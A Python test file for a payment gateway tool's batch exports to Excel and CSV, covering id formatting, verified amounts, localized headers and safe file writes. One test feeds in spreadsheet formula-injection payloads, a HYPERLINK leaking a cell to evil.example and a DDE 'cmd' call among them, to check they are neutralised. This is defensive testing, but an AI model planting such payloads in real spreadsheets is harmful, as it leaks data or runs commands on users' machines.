"""A batch job's export as an accountant opens it: the .xlsx read back with openpyxl and the .csv
with the csv module. Outcomes come from real sandbox answers (over loopback HTTP) and from rows
made by hand for what the demo gateway cannot say (a 19-digit id, a hostile id)."""

from __future__ import annotations

import csv
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from leshua_gui.core.batch.export import (
    COLUMNS,
    SummarySection,
    SummarySheet,
    export_csv,
    export_xlsx,
    header,
    summary_of,
)
from leshua_gui.core.batch.job import Job, JobRow, JobSettings
from leshua_gui.core.batch.outcome import Outcome, outcome_of
from leshua_gui.core.batch.totals import totals
from leshua_gui.core.gateway.client import GatewayClient
from leshua_gui.core.protocol.answer import CHINA_TZ
from leshua_gui.core.protocol.validation import IdKind
from leshua_gui.core.text.labels import LANGS, Lang
from tests.support.history_records import ask

KEYS = [key for key, _ in COLUMNS]
COL = {key: n for n, key in enumerate(KEYS)}
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NINETEEN = "1234567890123456789"
SIMPLIFIED_ONLY = set(
    "订单关闭败验签银宝码号户务统错误设据时间结优实红详标识类态账网请连为这没还应与页证数询乐"
)


def _job(rows: int = 9, unique: int = 8) -> Job:
    return Job(
        id="B20261201-K7QX",
        created=datetime(2026, 12, 1, 8, 30, tzinfo=UTC),
        profile="Shop",
        merchant_id="0000000018",
        environment="sandbox",
        source_name="orders.xlsx",
        settings=JobSettings(),
        state="done",
        total_rows=rows,
        unique=unique,
        completed=unique,
    )


def _row(
    n: int,
    order_id: str,
    outcome: Outcome | None,
    *,
    kind: IdKind | None = "third_order_id",
    expected_fen: int | None = None,
    **extra: Any,
) -> JobRow:
    values: dict[str, Any] = {
        "row": n, "raw": order_id, "id": order_id, "kind": kind, "expected_fen": expected_fen,
        "problem": None, "note": None, "duplicate_of": None, "outcome": outcome,
    }  # fmt: skip
    values.update(extra)
    return JobRow(**values)


def _asked(client: GatewayClient, order_id: str, kind: IdKind = "third_order_id") -> Outcome:
    return outcome_of(ask(client, order_id, kind), kind, order_id)


@pytest.fixture
def rows_in(client: GatewayClient) -> list[JobRow]:
    """A list as finance hands it over: paid orders (one with the wrong expected amount), a
    forged answer, an order the gateway does not know, a gateway failure, one still paying, a
    repeated row, an invalid row, a Leshua number with leading zeros and a 19-digit one."""
    paid = _asked(client, "DEMO-PAID-WX")
    zeros = _asked(client, "0003495002500083", "leshua_order_id")
    long_id = Outcome(
        kind="leshua_order_id", id=NINETEEN, verdict="trusted", final=True, status="2",
        pay_way="ZFBZF", amounts_fen={"amount": 5000, "settlement_amount": 4970},
        pay_time=datetime(2026, 11, 20, 14, 3, 27, tzinfo=CHINA_TZ),
    )  # fmt: skip
    return [
        _row(2, "DEMO-PAID-WX", paid, expected_fen=12800),
        _row(3, "DEMO-PAID-ALIPAY", _asked(client, "DEMO-PAID-ALIPAY"), expected_fen=4000),
        _row(4, "FAULT-BAD-SIGN", _asked(client, "FAULT-BAD-SIGN"), expected_fen=88800),
        _row(5, "DEMO-NOT-FOUND", _asked(client, "DEMO-NOT-FOUND"), expected_fen=100),
        _row(6, "FAULT-502", _asked(client, "FAULT-502")),
        _row(7, "DEMO-PAYING", _asked(client, "DEMO-PAYING")),
        _row(8, "DEMO-PAID-WX", paid, duplicate_of=2),
        _row(9, "", None, kind=None, raw="NL 2023", problem="id_space"),
        _row(10, "0003495002500083", zeros, kind="leshua_order_id", note="leading_zeros"),
        _row(11, NINETEEN, long_id, kind="leshua_order_id", expected_fen=5000),
    ]


def _read_xlsx(path: Path) -> tuple[list[str], dict[int, list[Any]], Any]:
    """(the sheet names, the Rows sheet's data rows by row number, the Summary sheet)."""
    book = openpyxl.load_workbook(path)
    rows = [list(r) for r in book.worksheets[1].iter_rows()]
    return book.sheetnames, {r[COL["row"]].value: r for r in rows[1:]}, book.worksheets[0]


def _yuan(cell: Any) -> Decimal | None:
    """A money cell's number as exact yuan (openpyxl reads numbers back as float)."""
    return None if cell.value is None else Decimal(str(cell.value)).quantize(Decimal("0.01"))


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_ids_stay_text_with_their_leading_zeros_and_all_19_digits(
    tmp_path: Path, rows_in: list[JobRow]
) -> None:
    path = tmp_path / "job.xlsx"
    assert export_xlsx(path, _job(), rows_in, [], "en") == len(rows_in)
    _, rows, _ = _read_xlsx(path)
    for n, expected in ((10, "0003495002500083"), (11, NINETEEN), (2, "DEMO-PAID-WX")):
        cell = rows[n][COL["id"]]
        assert (cell.value, cell.data_type, cell.number_format) == (expected, "s", "@")
    assert rows[9][COL["id"]].value == "NL 2023"  # an invalid row shows the id as written

    csv_path = tmp_path / "job.csv"
    assert export_csv(csv_path, rows_in, "en") == len(rows_in)
    table = _read_csv(csv_path)
    assert table[0] == [header(key, "en") for key in KEYS]
    ids = {line[COL["row"]]: line[COL["id"]] for line in table[1:]}
    assert (ids["10"], ids["11"]) == ("0003495002500083", NINETEEN)


def test_amounts_are_numbers_for_verified_answers_only(
    tmp_path: Path, rows_in: list[JobRow]
) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, [], "en")
    _, rows, _ = _read_xlsx(path)
    paid = rows[2]
    money = {k: paid[COL[k]] for k in ("amount", "buyer_pay_amount", "discount_amount",
                                       "settlement_amount", "expected", "difference")}  # fmt: skip
    assert {k: _yuan(c) for k, c in money.items()} == {
        "amount": Decimal("128.00"), "buyer_pay_amount": Decimal("118.00"),
        "discount_amount": Decimal("10.00"), "settlement_amount": Decimal("118.00"),
        "expected": Decimal("128.00"), "difference": Decimal("0.00"),
    }  # fmt: skip
    assert all(c.data_type == "n" and c.number_format == "0.00" for c in money.values())
    assert _yuan(rows[3][COL["difference"]]) == Decimal("10.00")  # ¥50.00 paid, ¥40.00 booked
    assert _yuan(rows[3][COL["discount_amount"]]) == Decimal("5.00")  # its coupon, as the totals

    for n in (4, 5, 6, 9):  # forged, not found, failed, not sent: no money, whatever was said
        for key in ("amount", "buyer_pay_amount", "discount_amount", "settlement_amount",
                    "difference", "pay_time"):  # fmt: skip
            assert rows[n][COL[key]].value is None, (n, key)
    assert _yuan(rows[4][COL["expected"]]) == Decimal("888.00")  # the books' own figure stays
    forged = rows[4]
    assert forged[COL["verification"]].value == "not verified"
    assert forged[COL["state"]].value == "paid (UNTRUSTED: the answer did not verify)"
    assert forged[COL["state_code"]].value == "2"
    amounts = {n: _yuan(r[COL["amount"]]) for n, r in rows.items() if r[COL["amount"]].value}
    # verified answers only (a paying order's too), the repeated row with its order's answer
    assert amounts == {2: Decimal("128.00"), 3: Decimal("50.00"), 7: Decimal("25.00"),
                       8: Decimal("128.00"), 10: Decimal("1.00"), 11: Decimal("50.00")}  # fmt: skip

    csv_path = tmp_path / "job.csv"
    export_csv(csv_path, rows_in, "en")
    by_row = {line[COL["row"]]: line for line in _read_csv(csv_path)[1:]}
    assert by_row["2"][COL["amount"]] == "128.00"
    assert by_row["11"][COL["settlement_amount"]] == "49.70"
    assert [by_row["4"][COL[k]] for k in ("amount", "settlement_amount", "difference")] == [""] * 3


def test_pay_times_are_date_time_cells_in_china_time(tmp_path: Path, rows_in: list[JobRow]) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, [], "en")
    _, rows, summary = _read_xlsx(path)
    cell = rows[11][COL["pay_time"]]
    assert cell.value == datetime(2026, 11, 20, 14, 3, 27)  # as the gateway's clock said
    assert cell.is_date
    assert cell.number_format == "yyyy-mm-dd hh:mm:ss"
    paid = rows[2][COL["pay_time"]]
    assert isinstance(paid.value, datetime)
    assert paid.is_date
    created = next(r for r in summary.iter_rows() if r[0].value == "Created")[1]
    assert created.is_date

    csv_path = tmp_path / "job.csv"
    export_csv(csv_path, rows_in, "en")
    by_row = {line[COL["row"]]: line for line in _read_csv(csv_path)[1:]}
    assert by_row["11"][COL["pay_time"]] == "2026-11-20 14:03:27"


EXPECTED_WORDS: dict[Lang, dict[str, str]] = {
    "zh_CN": {"sheets": "汇总 明细", "paid": "支付成功", "verified": "已验证",
              "not_found": "查无此单", "invalid": "未发送", "kind": "乐刷订单号",
              "pay_way": "微信支付", "row": "行号"},
    "zh_TW": {"sheets": "彙總 明細", "paid": "支付成功", "verified": "已驗證",
              "not_found": "查無此單", "invalid": "未發送", "kind": "樂刷訂單號",
              "pay_way": "微信支付", "row": "列號"},
    "en": {"sheets": "Summary Rows", "paid": "paid", "verified": "verified",
           "not_found": "not found", "invalid": "not sent", "kind": "Leshua order number",
           "pay_way": "WeChat Pay", "row": "Row"},
}  # fmt: skip


@pytest.mark.parametrize("lang", LANGS)
def test_headers_and_words_are_in_the_ui_language(
    tmp_path: Path, rows_in: list[JobRow], lang: Lang
) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, [], lang)
    names, rows, _ = _read_xlsx(path)
    words = EXPECTED_WORDS[lang]
    assert " ".join(names) == words["sheets"]
    head = [c.value for c in next(openpyxl.load_workbook(path).worksheets[1].iter_rows())]
    assert head == [header(key, lang) for key in KEYS]
    assert head[0] == words["row"]
    assert len(set(head)) == len(head)
    assert rows[2][COL["state"]].value == words["paid"]
    assert rows[2][COL["verification"]].value == words["verified"]
    assert rows[2][COL["pay_way"]].value == words["pay_way"]
    assert rows[5][COL["verification"]].value == words["not_found"]
    assert rows[9][COL["verification"]].value == words["invalid"]
    assert rows[10][COL["kind"]].value == words["kind"]
    # every cell but the error's text as the gateway wrote it (the demo gateway writes Chinese)
    texts = [c.value for r in rows.values() for n, c in enumerate(r)
             if isinstance(c.value, str) and n != COL["error_detail"]]  # fmt: skip
    if lang == "zh_TW":
        assert not [t for t in [*head, *texts] if SIMPLIFIED_ONLY.intersection(t)]
    if lang == "en":
        assert not [t for t in [*head, *texts] if any("\u4e00" <= ch <= "\u9fff" for ch in t)]


def test_remarks_say_why_a_row_was_not_sent_and_which_row_it_repeats(
    tmp_path: Path, rows_in: list[JobRow]
) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, [], "zh_CN")
    _, rows, _ = _read_xlsx(path)
    assert rows[9][COL["remarks"]].value == "订单号中间有空格"
    assert rows[8][COL["remarks"]].value == "与第 2 行的订单相同（只查询一次）"
    assert _yuan(rows[8][COL["amount"]]) == Decimal("128.00")  # the order's answer, asked once
    assert rows[10][COL["remarks"]].value  # what to check about the leading zeros
    assert rows[2][COL["remarks"]].value is None
    assert rows[6][COL["error"]].value  # the gateway failure, in words
    assert rows[5][COL["error_code"]].value  # the gateway's own "no such order" code


def test_a_hostile_id_is_never_a_formula(tmp_path: Path) -> None:
    forged = Outcome(kind="third_order_id", id="+1-202", verdict="error", final=False,
                     error_kind="gateway", error_code="-1", error="=cmd|' /C calc'!A0")  # fmt: skip
    rows_in = [
        _row(2, "", None, kind=None, raw=HOSTILE, problem="id_chars"),
        _row(3, "+1-202", forged),
        _row(4, "@SUM(A1)", None),
    ]
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, [("=1+1", "-2")], "en")
    book = openpyxl.load_workbook(path)
    rows = {r[COL["row"]].value: r for r in list(book.worksheets[1].iter_rows())[1:]}
    for n, text in ((2, HOSTILE), (3, "+1-202"), (4, "@SUM(A1)")):
        cell = rows[n][COL["id"]]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    detail = rows[3][COL["error_detail"]]
    assert (detail.data_type, detail.quotePrefix) == ("s", True)
    summary_cells = [c for r in book.worksheets[0].iter_rows() for c in r]
    assert not [c for c in summary_cells if c.data_type == "f"]
    label = next(c for c in summary_cells if c.value == "=1+1")
    assert label.quotePrefix

    csv_path = tmp_path / "job.csv"
    export_csv(csv_path, rows_in, "en")
    by_row = {line[COL["row"]]: line for line in _read_csv(csv_path)[1:]}
    assert by_row["2"][COL["id"]] == "'" + HOSTILE
    assert by_row["3"][COL["id"]] == "'+1-202"
    assert by_row["4"][COL["id"]] == "'@SUM(A1)"
    assert by_row["3"][COL["error_detail"]] == "'=cmd|' /C calc'!A0"


def test_the_summary_sheet_shows_the_job_and_the_sections_given(
    tmp_path: Path, rows_in: list[JobRow]
) -> None:
    summary = SummarySheet(
        (
            SummarySection(
                "By trade state",
                (("paid", 3, Decimal("228.00"), Decimal("217.70")),),
                header=("State", "Orders", "Amount", "Settlement"),
            ),
            SummarySection(
                "Reconciliation",
                (("Rows matching the books", 1), ("Sum of differences", Decimal("10.00"))),
            ),
        ),
        note="Money is counted over verified answers only.",
    )
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(), rows_in, summary, "en")
    _, _, sheet = _read_xlsx(path)
    lines = [[c.value for c in r] for r in sheet.iter_rows()]
    values = {line[0]: line[1:] for line in lines if line and line[0] is not None}
    paid = next(r for r in sheet.iter_rows() if r[0].value == "paid")
    assert values["Batch job"][0] == "B20261201-K7QX"
    assert values["List of orders"][0] == "orders.xlsx"
    assert values["Environment"][0] == "local demo gateway"
    assert (values["Rows read"][0], values["Orders asked"][0]) == (9, 8)
    assert values["State"][:3] == ["Orders", "Amount", "Settlement"]
    assert values["paid"][0] == 3
    assert [_yuan(c) for c in paid[2:4]] == [Decimal("228.00"), Decimal("217.70")]
    assert values["Sum of differences"][0] == 10
    assert "Money is counted over verified answers only." in values
    assert (paid[2].data_type, paid[2].number_format) == ("n", "0.00")


@pytest.mark.parametrize("lang", LANGS)
def test_the_summary_of_a_jobs_totals_counts_verified_money_only(
    tmp_path: Path, rows_in: list[JobRow], lang: Lang
) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(10, 9), rows_in, summary_of(totals(rows_in), lang), lang)
    _, _, sheet = _read_xlsx(path)
    lines = [list(r) for r in sheet.iter_rows()]
    text = [c.value for r in lines for c in r if isinstance(c.value, str)]
    if lang == "zh_TW":
        assert not [t for t in text if SIMPLIFIED_ONLY.intersection(t)]
    if lang == "en":
        by_label = {r[0].value: r for r in lines if r and r[0].value is not None}
        paid = by_label["paid"]  # DEMO-PAID-WX once (its repeat adds nothing), Alipay, 2 more
        assert (paid[1].value, paid[2].value) == ("2", 4)
        assert [_yuan(c) for c in paid[3:7]] == [
            Decimal("229.00"), Decimal("163.00"), Decimal("15.00"), Decimal("218.70"),
        ]  # fmt: skip
        assert all(c.data_type == "n" and c.number_format == "0.00" for c in paid[3:7])
        every = by_label["All verified answers"]  # the paying order's ¥25.00 too, never ¥888
        assert (every[2].value, _yuan(every[3])) == (5, Decimal("254.00"))
        assert by_label["WeChat Pay"][1].value == "WXZF"
        counted = {k: by_label[k][1].value for k in ("Answers not verified", "No usable answer",
                   "Not found at the gateway", "Not final yet", "Rows not sent",
                   "Repeated rows")}  # fmt: skip
        assert counted == {"Answers not verified": 1, "No usable answer": 1,
                           "Not found at the gateway": 1, "Not final yet": 1, "Rows not sent": 1,
                           "Repeated rows": 1}  # fmt: skip
        assert by_label["Rows matching the books"][1].value == 2  # DEMO-PAID-WX, the 19 digits
        assert by_label["Rows whose amount differs"][1].value == 1  # Alipay: ¥50.00, not ¥40.00
        assert _yuan(by_label["Sum of differences (gateway minus books)"][1]) == Decimal("10.00")
        assert by_label["Rows in the books not found at the gateway"][1].value == 1
        assert any(str(t).startswith("Money is counted over verified answers only") for t in text)


def test_a_plain_list_of_pairs_is_a_summary_too(tmp_path: Path) -> None:
    path = tmp_path / "job.xlsx"
    export_xlsx(path, _job(0, 0), [], [("Amount", Decimal("1.50")), ("Orders", 2)], "zh_CN")
    _, rows, sheet = _read_xlsx(path)
    assert rows == {}
    values = {r[0].value: r[1].value for r in sheet.iter_rows() if r[0].value is not None}
    assert (values["Amount"], values["Orders"], values["订单列表"]) == (1.5, 2, "orders.xlsx")


def test_a_failure_while_reading_the_rows_leaves_no_file(
    tmp_path: Path, rows_in: list[JobRow]
) -> None:
    def damaged() -> Iterator[JobRow]:
        yield from rows_in[:3]
        raise OSError("disk I/O error")

    for name, write in (
        ("job.xlsx", lambda p: export_xlsx(p, _job(), damaged(), [], "en")),
        ("job.csv", lambda p: export_csv(p, damaged(), "en")),
    ):
        path = tmp_path / name
        path.write_bytes(b"an earlier export")
        with pytest.raises(OSError, match="disk I/O error"):
            write(path)
        assert path.read_bytes() == b"an earlier export"  # not overwritten by half a file
        assert not list(tmp_path.glob(".*.partial"))


def _many(count: int) -> Iterator[JobRow]:
    """`count` rows made one at a time, as the job store streams them."""
    at = datetime(2026, 11, 20, 14, 3, 27, tzinfo=CHINA_TZ)
    for n in range(count):
        order_id = f"{n:019d}"
        outcome = Outcome(kind="leshua_order_id", id=order_id, verdict="trusted", final=True,
                          status="2", pay_way="WXZF", pay_time=at,
                          amounts_fen={"amount": n, "settlement_amount": n})  # fmt: skip
        yield _row(n + 2, order_id, outcome, kind="leshua_order_id", expected_fen=n)


def _peak_exporting(path: Path, count: int) -> int:
    """The most memory Python held while `count` rows were exported (bytes)."""
    tracemalloc.start()
    try:
        assert export_xlsx(path, _job(count, count), _many(count), [], "en") == count
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_rows_are_streamed_so_memory_does_not_grow_with_the_job(tmp_path: Path) -> None:
    """Ten times the rows, the same memory: a 100,000-row job exports as a 300-row one does
    (measured: 100,000 rows in about 45 MB of process memory). Holding the 3,000 rows alone
    would take about 2 MB more."""
    small = _peak_exporting(tmp_path / "small.xlsx", 300)
    large = _peak_exporting(tmp_path / "large.xlsx", 3_000)
    assert large < small + 2**20, f"{small / 2**20:.2f} -> {large / 2**20:.2f} MiB"
    book = openpyxl.load_workbook(tmp_path / "large.xlsx", read_only=True)
    try:
        sheet = book.worksheets[1]
        last = next(sheet.iter_rows(min_row=3_001, max_row=3_001, values_only=True))
        assert last[COL["id"]] == f"{2_999:019d}"
        assert last[COL["amount"]] == pytest.approx(29.99)
    finally:
        book.close()

    csv_path = tmp_path / "large.csv"
    assert export_csv(csv_path, _many(100_000), "en") == 100_000
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        assert sum(1 for _ in csv.reader(fh)) == 100_001
